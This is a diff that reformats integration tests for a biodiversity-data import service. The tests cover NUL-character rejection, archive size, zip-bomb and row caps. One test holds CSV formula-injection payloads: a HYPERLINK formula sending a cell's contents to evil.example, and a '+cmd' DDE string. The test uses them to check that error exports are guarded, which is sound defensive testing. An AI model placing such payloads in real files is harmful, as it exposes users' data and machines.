@@ -38,7 +38,9 @@ afterAll(async () => {
 
 function multipart(fileName: string, content: Buffer): { payload: Buffer; headers: Record<string, string> } {
   const boundary = `----biomon${randomBytes(8).toString('hex')}`;
-  const head = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: application/octet-stream\r\n\r\n`);
+  const head = Buffer.from(
+    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
+  );
   const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
   return { payload: Buffer.concat([head, content, tail]), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
 }
@@ -71,7 +73,8 @@ const errorRows = async (importId: string) => {
   expect(csv.charCodeAt(0)).toBe(0xfeff);
   return parse(csv.slice(1), { relax_column_count: false }) as string[][];
 };
-const stored = async (importId: string) => (await sql<{ id: string }>`SELECT occurrence_id AS id FROM occurrences WHERE import_id = ${importId} ORDER BY 1`.execute(t.ctx.db)).rows.map((r) => r.id);
+const stored = async (importId: string) =>
+  (await sql<{ id: string }>`SELECT occurrence_id AS id FROM occurrences WHERE import_id = ${importId} ORDER BY 1`.execute(t.ctx.db)).rows.map((r) => r.id);
 
 /** The bullmq job of an import, once it has settled (the import row is marked before the job ends). */
 async function jobOf(importId: string) {
@@ -119,9 +122,10 @@ describe('bad characters in files reject their row, naming the term; the other r
   });
 
   it('CSV: a NUL in a header names that column in the rows that fill it (an empty cell is not kept)', async () => {
-    const csv = 'occurrenceID,scientificName,eventDate,decimalLatitude,decimalLongitude,habitat\u0000\r\n'
-      + 'hh-1,Sus scrofa,2025-05-01,43.1,126.2,\r\n'
-      + 'hh-2,Sus scrofa,2025-05-01,43.1,126.2,forest\r\n';
+    const csv =
+      'occurrenceID,scientificName,eventDate,decimalLatitude,decimalLongitude,habitat\u0000\r\n' +
+      'hh-1,Sus scrofa,2025-05-01,43.1,126.2,\r\n' +
+      'hh-2,Sus scrofa,2025-05-01,43.1,126.2,forest\r\n';
     const r = await importFile('nul-header.csv', Buffer.from(csv, 'utf8'));
     expect(r.status).toBe('completed');
     expect(r.counts).toMatchObject({ inserted: 1, rejected: 1 });
@@ -131,23 +135,33 @@ describe('bad characters in files reject their row, naming the term; the other r
   });
 
   it('DwC-A: a NUL in one row of occurrence.txt', async () => {
-    const zip = await zipOf({ 'meta.xml': META(OCC_FIELDS), 'occurrence.txt': [OCC_FIELDS.join('\t'), occRow('hd-1'), occRow('hd-2', 'N43.1234\u0000E130'), occRow('hd-3')].join('\n') + '\n' });
+    const zip = await zipOf({
+      'meta.xml': META(OCC_FIELDS),
+      'occurrence.txt': [OCC_FIELDS.join('\t'), occRow('hd-1'), occRow('hd-2', 'N43.1234\u0000E130'), occRow('hd-3')].join('\n') + '\n',
+    });
     const r = await importFile('nul-dwca.zip', zip);
     expect(r.status).toBe('completed');
     expect(r.counts).toMatchObject({ inserted: 2, rejected: 1 });
     expect(await stored(r.importId)).toEqual(['hd-1', 'hd-3']);
-    expect((await errorRows(r.importId)).slice(1)).toEqual([['occurrence.txt', '2', 'hd-2', 'occurrenceRemarks', 'TEXT_INVALID_CHARACTER', expect.stringMatching(/NUL/)]]);
+    expect((await errorRows(r.importId)).slice(1)).toEqual([
+      ['occurrence.txt', '2', 'hd-2', 'occurrenceRemarks', 'TEXT_INVALID_CHARACTER', expect.stringMatching(/NUL/)],
+    ]);
   });
 
   it('Camtrap DP: a NUL in a deployment and in an observation comment', async () => {
-    const dp = { profile: 'https://raw.githubusercontent.com/tdwg/camtrap-dp/1.0.2/camtrap-dp-profile.json', resources: ['deployments', 'media', 'observations'].map((n) => ({ name: n, path: `${n}.csv` })) };
+    const dp = {
+      profile: 'https://raw.githubusercontent.com/tdwg/camtrap-dp/1.0.2/camtrap-dp-profile.json',
+      resources: ['deployments', 'media', 'observations'].map((n) => ({ name: n, path: `${n}.csv` })),
+    };
     const zip = await zipOf({
       'datapackage.json': JSON.stringify(dp),
-      'deployments.csv': 'deploymentID,latitude,longitude,deploymentStart,deploymentEnd,habitat\r\nd1,43.1,128.1,2025-05-01T00:00:00+08:00,2025-05-10T00:00:00+08:00,forest\r\nd2,43.2,128.2,2025-05-01T00:00:00+08:00,2025-05-10T00:00:00+08:00,"bad\u0000habitat"\r\n',
+      'deployments.csv':
+        'deploymentID,latitude,longitude,deploymentStart,deploymentEnd,habitat\r\nd1,43.1,128.1,2025-05-01T00:00:00+08:00,2025-05-10T00:00:00+08:00,forest\r\nd2,43.2,128.2,2025-05-01T00:00:00+08:00,2025-05-10T00:00:00+08:00,"bad\u0000habitat"\r\n',
       'media.csv': 'mediaID,deploymentID,timestamp,filePath\r\nm1,d1,2025-05-02T01:00:00+08:00,https://example.org/m1.jpg\r\n',
-      'observations.csv': 'observationID,deploymentID,mediaID,eventID,eventStart,eventEnd,observationLevel,observationType,scientificName,count,observationComments\r\n'
-        + 'o1,d1,,e1,2025-05-02T01:00:00+08:00,2025-05-02T01:00:10+08:00,event,animal,Sus scrofa,1,\r\n'
-        + 'o2,d1,,e2,2025-05-03T01:00:00+08:00,2025-05-03T01:00:10+08:00,event,animal,Sus scrofa,2,"trap at N43\u0000"\r\n',
+      'observations.csv':
+        'observationID,deploymentID,mediaID,eventID,eventStart,eventEnd,observationLevel,observationType,scientificName,count,observationComments\r\n' +
+        'o1,d1,,e1,2025-05-02T01:00:00+08:00,2025-05-02T01:00:10+08:00,event,animal,Sus scrofa,1,\r\n' +
+        'o2,d1,,e2,2025-05-03T01:00:00+08:00,2025-05-03T01:00:10+08:00,event,animal,Sus scrofa,2,"trap at N43\u0000"\r\n',
     });
     const r = await importFile('nul-camtrap.zip', zip);
     expect(r.status, JSON.stringify(r.error)).toBe('completed');
@@ -160,11 +174,12 @@ describe('bad characters in files reject their row, naming the term; the other r
   });
 
   it('errors.csv guards cells that would run as a formula, and they round-trip through a CSV reader', async () => {
-    const csv = 'occurrenceID,scientificName,eventDate,decimalLatitude,decimalLongitude\r\n'
-      + '"=HYPERLINK(""http://evil.example/?""&A1,""click"")",,2025-05-01,43.1,126.2\r\n'
-      + '"+cmd|\' /C calc\'!A0",,2025-05-01,43.1,126.2\r\n'
-      + '-2+3,,2025-05-01,43.1,126.2\r\n'
-      + '@SUM(1+1),,2025-05-01,43.1,126.2\r\n';
+    const csv =
+      'occurrenceID,scientificName,eventDate,decimalLatitude,decimalLongitude\r\n' +
+      '"=HYPERLINK(""http://evil.example/?""&A1,""click"")",,2025-05-01,43.1,126.2\r\n' +
+      '"+cmd|\' /C calc\'!A0",,2025-05-01,43.1,126.2\r\n' +
+      '-2+3,,2025-05-01,43.1,126.2\r\n' +
+      '@SUM(1+1),,2025-05-01,43.1,126.2\r\n';
     const r = await importFile('formula.csv', Buffer.from(csv, 'utf8'));
     expect(r.counts).toMatchObject({ inserted: 0, rejected: 4 });
     const rows = await errorRows(r.importId);
@@ -200,12 +215,25 @@ describe('archive and row caps: the import fails once with its code, stores noth
 
   it('ARCHIVE_TOO_LARGE: entries that unpack to more than BIOMON_ARCHIVE_MAX_BYTES (4 MiB)', async () => {
     // incompressible bytes, so the ratio cap does not speak first
-    const r = await importFile('too-large.zip', await zipOf({ 'meta.xml': META(OCC_FIELDS), 'occurrence.txt': `${OCC_FIELDS.join('\t')}\n${occRow('l-1')}\n`, 'media/blob.bin': randomBytes(4 * 1024 * 1024) }));
+    const r = await importFile(
+      'too-large.zip',
+      await zipOf({
+        'meta.xml': META(OCC_FIELDS),
+        'occurrence.txt': `${OCC_FIELDS.join('\t')}\n${occRow('l-1')}\n`,
+        'media/blob.bin': randomBytes(4 * 1024 * 1024),
+      }),
+    );
     await expectFailedOnce(r, 'ARCHIVE_TOO_LARGE');
   });
 
   it('ARCHIVE_COMPRESSION_RATIO: a 3 MiB entry of zeros compressed about 1000:1 (a zip bomb in small)', async () => {
-    const r = await importFile('bomb.zip', await zipOf({ 'meta.xml': META(OCC_FIELDS), 'occurrence.txt': Buffer.concat([Buffer.from(`${OCC_FIELDS.join('\t')}\n`), Buffer.alloc(3 * 1024 * 1024)]) }));
+    const r = await importFile(
+      'bomb.zip',
+      await zipOf({
+        'meta.xml': META(OCC_FIELDS),
+        'occurrence.txt': Buffer.concat([Buffer.from(`${OCC_FIELDS.join('\t')}\n`), Buffer.alloc(3 * 1024 * 1024)]),
+      }),
+    );
     await expectFailedOnce(r, 'ARCHIVE_COMPRESSION_RATIO');
     expect(r.error.message).toMatch(/occurrence\.txt is compressed \d+:1/);
   });
@@ -214,7 +242,10 @@ describe('archive and row caps: the import fails once with its code, stores noth
     const rows = Array.from({ length: 51 }, (_, i) => occRow(`r-${i}`));
     const csv = await importFile('rows.csv', Buffer.from([OCC_FIELDS.join(','), ...rows.map((x) => x.replace(/\t/g, ','))].join('\n'), 'utf8'));
     await expectFailedOnce(csv, 'IMPORT_TOO_MANY_ROWS');
-    const dwca = await importFile('rows.zip', await zipOf({ 'meta.xml': META(OCC_FIELDS), 'occurrence.txt': [OCC_FIELDS.join('\t'), ...rows].join('\n') + '\n' }));
+    const dwca = await importFile(
+      'rows.zip',
+      await zipOf({ 'meta.xml': META(OCC_FIELDS), 'occurrence.txt': [OCC_FIELDS.join('\t'), ...rows].join('\n') + '\n' }),
+    );
     expect(dwca.error.code).toBe('IMPORT_TOO_MANY_ROWS');
     expect(await stored(dwca.importId)).toEqual([]);
   }, 30_000);
